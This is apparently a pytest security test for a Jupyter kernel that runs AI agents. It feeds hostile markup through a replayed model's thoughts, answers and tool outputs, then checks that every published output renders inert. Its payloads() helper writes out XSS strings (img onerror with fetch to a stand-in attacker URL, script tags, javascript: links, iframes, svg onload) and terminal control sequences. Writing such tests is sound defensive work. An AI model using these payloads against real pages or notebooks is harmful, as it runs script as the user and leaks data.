"""Model and tool text is inert in every output the kernel publishes.

A front end trusts the outputs of a cell it executed: JupyterLab renders a
trusted ``text/markdown`` or ``text/html`` output without its sanitizer, so
an ``<img onerror>`` in an answer would run as the user, with the Jupyter
server's API at hand. A replay model writes hostile markup into a thought,
a partial response and the final answer, a tool returns it (echoed into the
answer with ``$page``) and another fails with it in its message; then every
representation published (display, update, result) is checked: its HTML,
and its markdown as a renderer of trusted markdown turns it into HTML
(markdown-it with raw HTML on, as permissive as JupyterLab's), hold no tag
but formatting, no event handler and no URL but ``http``/``https``/``mailto``
links; formatting survives; ``text/plain`` holds no terminal control.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from .conftest import Kernel, dump

pytestmark = pytest.mark.kernel

WIDGET = "application/vnd.jupyter.widget-view+json"

#: Where the payloads' requests would go (the browser test watches this address).
ATTACKER = "http://127.0.0.1:{port}"


def payloads(where: str, port: int = 9) -> str:
    """Markup that runs script or loads a URL if rendered live, tagged with ``where``."""
    leak = f"{ATTACKER.format(port=port)}/leak-{where}"
    return " ".join(
        [
            f"<img src=x onerror=\"window.__pwned='{where}';fetch('{leak}')\">",
            f"<script>window.__pwned='{where}'</script>",
            f"<a href=\"javascript:window.__pwned='{where}'\">js-{where}</a>",
            f'<iframe src="{leak}"></iframe>',
            f"<svg onload=\"window.__pwned='{where}'\"></svg>",
            f"[md-{where}](javascript:window.__pwned=1)",
            f"![]({leak}-img)",
        ]
    )


# Shown as text, and carried into the answer by $page.
CONTROLS = "\x1b]0;owned\x07\x1b[2J\rfake\u202eflipped"

TOOLS = """%%python
from cortex_kernel import tool

@tool
def fetch_page() -> str:
    \"\"\"A web page's text (an attacker's).\"\"\"
    return {page!r}

@tool
def broken() -> str:
    \"\"\"Fails, with markup in its message.\"\"\"
    raise ValueError({error!r})
"""

FINAL = """**Report** for *you*:

- first ~~old~~
- `code <b>kept</b>`

| key | value |
|-----|------:|
| a   | 1     |

See [the docs](https://example.com/docs). {answer}

The page said: $page"""


def hostile_turn(port: int = 9) -> str:
    """One model turn: a hostile thought, tool calls, a partial and a final response."""
    return (
        f"<thought>Reading the page. {payloads('thought', port)}\n"
        '<action type="tool" mode="async" id="t1" output_key="page">'
        '{"name": "fetch_page", "parameters": {}}</action>\n'
        '<action type="tool" mode="async" id="t2">'
        '{"name": "broken", "parameters": {}}</action>\n'
        "</thought>"
        f'<response final="false">Working on it. {payloads("partial", port)}</response>'
        f"<response>{FINAL.format(answer=payloads('answer', port))}</response>"
    )


def tools_cell(port: int = 9) -> str:
    """The ``%%python`` cell that registers the hostile tools."""
    return TOOLS.format(
        page=f"{payloads('result', port)} {CONTROLS}", error=f"bad input {payloads('error', port)}"
    )


ALLOWED_TAGS = {"p", "br", "hr", "em", "strong", "del", "s", "code", "pre", "blockquote"}
ALLOWED_TAGS |= {"ul", "ol", "li", "a", "span", "table", "thead", "tbody", "tr", "th", "td"}
ALLOWED_TAGS |= {"h1", "h2", "h3", "h4", "h5", "h6", "div", "details", "summary", "small", "b"}
ALLOWED_TAGS |= {"i"}
ALLOWED_ATTRIBUTES = {"href", "rel", "target", "style", "class", "start", "title", "lang"}
# The static view's timeline: shapes, text and tooltips the kernel draws (no
# link, image, script or animation; no attribute that takes a URL).
ALLOWED_TAGS |= {"svg", "g", "rect", "line", "path", "text", "title"}
ALLOWED_ATTRIBUTES |= {"width", "height", "viewbox", "x", "y", "x1", "y1", "x2", "y2", "d"}
ALLOWED_ATTRIBUTES |= {"fill", "stroke", "stroke-width", "font-family", "font-size"}
ALLOWED_ATTRIBUTES |= {"text-anchor", "role", "aria-label"}


class LiveMarkup(HTMLParser):
    """Collects what of an HTML text a browser would make live."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.live: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in ALLOWED_TAGS:
            self.live.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES:
                self.live.append(f"{tag} {name}={value!r}")
            if name == "href":
                self.links.append(value or "")
                if not (value or "").startswith(("http://", "https://", "mailto:")):
                    self.live.append(f"{tag} href={value!r}")
            if name == "style" and "url(" in (value or ""):
                self.live.append(f"{tag} style={value!r}")

    def handle_comment(self, data: str) -> None:
        self.live.append(f"<!--{data}-->")


def live_markup(markup: str) -> LiveMarkup:
    parser = LiveMarkup()
    parser.feed(markup)
    parser.close()
    return parser


# A renderer of trusted markdown: raw HTML passes (JupyterLab's does the same).
TRUSTED_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def as_rendered(mime: str, text: str) -> str:
    return TRUSTED_MARKDOWN.render(text) if mime == "text/markdown" else text


def bundles(messages: list[dict[str, Any]]) -> list[tuple[str, dict[str, Any]]]:
    kinds = ("display_data", "update_display_data", "execute_result")
    return [(m["msg_type"], m["content"]["data"]) for m in messages if m["msg_type"] in kinds]


@pytest.fixture(scope="module")
def kernel(cortex_kernelspec: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kernel]:
    env = {**os.environ, "CORTEX_TRANSCRIPT_DIR": str(tmp_path_factory.mktemp("transcripts"))}
    kernel = Kernel(cortex_kernelspec, env)
    kernel.python(tools_cell())
    yield kernel
    kernel.shutdown()


@pytest.fixture(scope="module")
def hostile(kernel: Kernel, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """The hostile run's iopub traffic."""
    path = tmp_path_factory.mktemp("replay") / "hostile.jsonl"
    path.write_text(json.dumps({"content": hostile_turn()}) + "\n", encoding="utf-8")
    result = kernel.run(f"%%agent --model replay:{path}\nsummarise the page")
    assert result.status == "ok", dump(result)
    return result


def test_every_published_representation_is_inert(hostile: Any) -> None:
    published = bundles(hostile.iopub)
    kinds = [kind for kind, _ in published]
    assert "execute_result" in kinds and "update_display_data" in kinds, kinds
    seen: set[str] = set()
    for kind, data in published:
        for mime in ("text/html", "text/markdown"):
            if mime not in data:
                continue
            found = live_markup(as_rendered(mime, data[mime]))
            assert not found.live, (kind, mime, found.live, data[mime][:3000])
            seen.add(f"{kind} {mime}")
    # The answer comes as HTML (what notebook front ends prefer) and as markdown.
    assert {"execute_result text/html", "execute_result text/markdown"} <= seen, seen
    assert {"update_display_data text/html", "update_display_data text/markdown"} <= seen, seen


def test_hostile_text_reads_as_text(hostile: Any) -> None:
    answer = hostile.result_data()["text/html"]
    view = hostile.of_type("update_display_data")[-1]["content"]["data"]["text/html"]
    # The payloads are there to be read, escaped: the thought, the partial
    # response and the failed action's error in the view; the answer's own and
    # the tool's output (through $page) in the answer.
    shown_in = {"thought": view, "partial": view, "error": view, "answer": answer, "result": answer}
    for where, shown in shown_in.items():
        assert f"&lt;img src=x onerror=\"window.__pwned='{where}'" in shown, where
        assert f"&lt;script&gt;window.__pwned='{where}'&lt;/script&gt;" in shown, where
    assert "[md-answer](javascript:" in answer  # an unsafe link is its own text
    # An image becomes a link to it: nothing is fetched until it is clicked.
    assert '<a href="http://127.0.0.1:9/leak-answer-img"' in answer


def test_formatting_survives(hostile: Any) -> None:
    answer = hostile.result_data()
    for mime in ("text/html", "text/markdown"):
        markup = as_rendered(mime, answer[mime])
        found = live_markup(markup)
        assert {"strong", "em", "ul", "li", "code", "table", "th", "td", "s"} <= set(found.tags)
        assert "https://example.com/docs" in found.links, (mime, found.links)
        assert "<code>code &lt;b&gt;kept&lt;/b&gt;</code>" in markup, mime
        assert 'style="text-align:right"' in markup, mime
    # Links from model text open nothing of the page's.
    assert 'rel="noopener noreferrer nofollow"' in answer["text/html"]


def test_plain_text_holds_no_terminal_control(hostile: Any) -> None:
    for kind, data in bundles(hostile.iopub):
        plain = data["text/plain"]
        assert not any(c in plain for c in "\x1b\x07\r\u202e"), (kind, plain)
    plain = hostile.result_data()["text/plain"]
    assert "␛]0;owned␇␛[2J␍fake<U+202E>flipped" in plain
